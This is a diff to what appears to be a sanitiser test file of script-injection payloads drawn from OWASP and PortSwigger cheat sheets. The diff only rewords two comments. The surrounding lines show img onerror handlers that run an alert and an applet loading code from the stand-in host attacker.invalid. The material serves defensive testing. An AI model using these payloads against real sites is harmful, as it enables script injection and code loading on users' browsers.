@@ -1,7 +1,6 @@
 /**
- * Script injection attempts after OWASP's and PortSwigger's cheat sheets and published sanitiser
- * bypasses. A successful one sets `window.attacked`, opens a dialog, or requests
- * `attacker.invalid`.
+ * Attacks from OWASP's and PortSwigger's cheat sheets and published sanitiser bypasses. A
+ * successful one sets `window.attacked`, opens a dialog, or requests `attacker.invalid`.
  */
 
 const run = 'window.attacked=1;alert(1)'
@@ -36,7 +35,7 @@ const tags = [
   `<applet code="https://attacker.invalid/x.class"></applet>`,
 ]
 
-/** Handlers on whatever tag. */
+/** Event handlers on any element. */
 const handlers = [
   `<img src=x onerror="${run}">`,
   `<img src=x:x onerror=${run}//`,
